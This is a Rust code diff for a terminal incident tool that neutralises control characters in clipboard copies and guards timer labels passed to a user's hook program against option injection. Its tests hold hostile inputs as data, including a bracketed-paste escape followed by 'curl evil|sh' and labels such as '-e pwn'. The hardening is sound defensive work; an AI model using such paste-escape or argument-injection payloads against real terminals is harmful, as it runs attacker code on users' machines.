@@ -49,10 +49,10 @@ pub fn carry_out(session: &Session, hook: &[String], effect: Effect) -> After {
             session.restore();
             After::Nothing
         }
-        Effect::Copy(text) if text.len() > LONGEST_COPY => {
-            After::Message(Message::Say("too long for a terminal's clipboard".into(), true))
-        }
-        Effect::Copy(text) => After::Bytes(format!("\x1b]52;c;{}\x07", base64(text.as_bytes()))),
+        Effect::Copy(text) => copied(&text).map_or_else(
+            || After::Message(Message::Say("too long for a terminal's clipboard".into(), true)),
+            After::Bytes,
+        ),
         Effect::Bell => After::Bytes("\x07".into()),
         Effect::Notify(text) => After::Bytes(format!("\x1b]9;warroom: {}\x07", crate::text::one_line(&text))),
         Effect::RanOut(label) => {
@@ -71,6 +71,21 @@ fn outcome(action: Action, result: Result<crate::incident::Applied, crate::incid
     After::Message(Message::Outcome(Outcome { action, results }))
 }
 
+/// The bytes that put a text on the clipboard: as it is shown, so that nothing in it acts on what it is pasted into. Nothing where
+/// it is longer than terminals take.
+fn copied(text: &str) -> Option<String> {
+    let shown = crate::text::one_line(text);
+    let fits = text.len() <= LONGEST_COPY && shown.len() <= LONGEST_COPY;
+    fits.then(|| format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())))
+}
+
+/// A timer's label as an argument of the person's program: made safe, and never an option of it.
+fn argument(label: &str) -> String {
+    let safe = crate::text::one_line(label);
+    let guard = if safe.starts_with('-') { " " } else { "" };
+    format!("{guard}{safe}")
+}
+
 /// Runs the person's program for a timer that ran out, its label as the last argument. What it says is not heard: the
 /// screen is ours.
 fn run_hook(hook: &[String], label: &str) {
@@ -78,7 +93,7 @@ fn run_hook(hook: &[String], label: &str) {
         return;
     };
     let mut command = Command::new(program);
-    command.args(arguments).arg(label);
+    command.args(arguments).arg(argument(label));
     command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
     let Ok(mut child) = crate::child::start(command) else {
         return FAILED.store(true, Ordering::Relaxed);
@@ -115,6 +130,28 @@ fn base64(bytes: &[u8]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_is_copied_is_what_is_shown() {
+        let bytes = copied("get pods\u{1b}[201~\ncurl evil|sh\r\u{9b}1m\u{202e}\0").unwrap();
+        let shown = "get pods␛[201~↵curl evil|sh␍\u{fffd}1m\u{fffd}␀";
+        assert_eq!(bytes, format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())));
+        assert_eq!(copied(&"x".repeat(LONGEST_COPY + 1)), None);
+        assert_eq!(copied(&"\u{1b}".repeat(LONGEST_COPY)), None, "longer when made visible");
+    }
+
+    #[test]
+    fn a_label_is_no_option_of_the_persons_program() {
+        for (label, argument_) in [
+            ("call lee", "call lee"),
+            ("-e pwn", " -e pwn"),
+            ("--help", " --help"),
+            ("a\nb", "a↵b"),
+        ] {
+            assert_eq!(argument(label), argument_);
+        }
+        assert_eq!(argument("\u{1b}-x"), "␛-x");
+    }
 
     #[test]
     fn clipboard_text_is_base64() {
